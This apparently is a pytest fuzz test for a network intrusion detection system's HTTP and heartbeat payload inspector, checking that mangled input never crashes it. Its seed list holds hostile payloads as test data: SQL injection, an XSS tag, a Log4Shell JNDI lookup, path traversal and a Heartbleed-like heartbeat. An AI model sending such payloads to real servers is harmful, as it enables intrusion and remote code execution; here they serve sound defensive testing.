"""Hostile payloads: random, truncated and mangled HTTP-looking and heartbeat-looking
segments, in real frames through the decoder and the inspector, never raise and never give
an explanation longer than its bound or with a raw control character in it."""

from __future__ import annotations

import random

import numpy as np

from netids.capture.pcapfile import read_batches
from netids.detect.decode import decode
from netids.detect.frames import FrameBatch
from netids.detect.payload import WHY_LIMIT, PayloadInspector
from netids.detect.payload_http import check_request, check_response

ETH = bytes(12) + b"\x08\x00"
SEEDS = [b"GET /?id=1%27+OR+1%3D1+--+&q=%3Cscript%3E HTTP/1.1\r\nHost: x\r\n"
         b"User-Agent: ${jndi:ldap://x/a}\r\n\r\n",
         b"POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
         b"user=admin%27--&pass=" + b"%" * 50,
         b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nContent-Disposition: attachment; "
         b"filename=\"a.exe\"\r\nContent-Type: application/octet-stream\r\n\r\n1f\r\nMZ\x90",
         b"HTTP/1.0 200 OK\r\n\r\n\x7fELF" + bytes(60),
         bytes.fromhex("1803033ff0013fed") + b"A" * 40,
         b"MZ" + bytes(30), b"OPTIONS * HTTP/1.1\r\n\r\n", b"DELETE /../" * 300]


def frame(payload: bytes, seq: int = 0) -> bytes:
    total = 40 + len(payload)
    ip = b"\x45\x00" + min(total, 65535).to_bytes(2, "big") + bytes.fromhex(
        "0001000040060000") + bytes([10, 0, 0, 1, 10, 0, 0, 2])
    tcp = (b"\x30\x39\x00\x50" + seq.to_bytes(4, "big") + bytes(4)
           + b"\x50\x18\x20\x00" + bytes(4))
    return ETH + ip + tcp + payload


def mangle(rng: random.Random, seed: bytes) -> bytes:
    """A seed cut, with bytes flipped, spliced or repeated past every bound."""
    data = bytearray(seed)
    for _ in range(rng.randrange(0, 12)):
        op = rng.randrange(5)
        if op == 0 and data:
            data[rng.randrange(len(data))] = rng.randrange(256)
        elif op == 1:
            data[rng.randrange(len(data) + 1):rng.randrange(len(data) + 1)] = rng.randbytes(
                rng.randrange(1, 40))
        elif op == 2:
            data += rng.choice([b"\r\n", b"%", b"&", b"=", b"${", b"\x00", b"\xff\xfe",
                                b"\x1b[31m", b"<", b"'"]) * rng.randrange(1, 3000)
        elif op == 3:
            del data[rng.randrange(len(data) + 1):]
        else:
            data = data[: rng.randrange(4, 9)]
    return bytes(data)


def test_mangled_payloads_never_raise_and_keep_explanations_bounded() -> None:
    rng = random.Random(17)
    inspector, payloads, found = PayloadInspector(), [], []
    for round_ in range(40):
        payloads = [mangle(rng, rng.choice(SEEDS)) for _ in range(100)]
        payloads += [rng.choice(SEEDS)[:4] + rng.randbytes(rng.randrange(0, 5000))
                     for _ in range(20)]
        for p in payloads:  # the pure checks alone too, on any bytes
            check_request(p)
            check_response(p)
        frames = [frame(p, seq=rng.randrange(2**32))[: rng.choice([9999, 60, 54, 57])]
                  for p in payloads]
        batch = FrameBatch.from_frames(frames, np.arange(len(frames)) + round_ * 1000.0)
        found += inspector.inspect(batch, decode(batch))
    assert inspector.stats.parsed > 1000 and len(found) > 100  # the checks ran and found
    for f in found:
        assert len(f.why) <= WHY_LIMIT, f.why
        assert f.why.isprintable() and f.why.isascii(), f.why


def test_random_bytes_after_an_http_method_never_raise() -> None:
    rng = random.Random(5)
    for _ in range(3000):
        head = rng.choice([b"GET ", b"POST", b"HTTP/1.", b"\x18\x03\x01"]) + rng.randbytes(
            rng.randrange(0, 300))
        assert all(len(h.why) <= WHY_LIMIT for h in check_request(head) + check_response(head))


def test_every_shared_capture_reads_without_error(shared_data) -> None:
    """Real traffic of every kind (third-party captures, odd link types, fragments)."""
    inspector = PayloadInspector()
    for path in sorted(shared_data.glob("*/*.pcap*")):
        for frames in read_batches(path, 4096):
            for f in inspector.inspect(frames, decode(frames)):
                assert len(f.why) <= WHY_LIMIT
    assert inspector.stats.parsed > 0
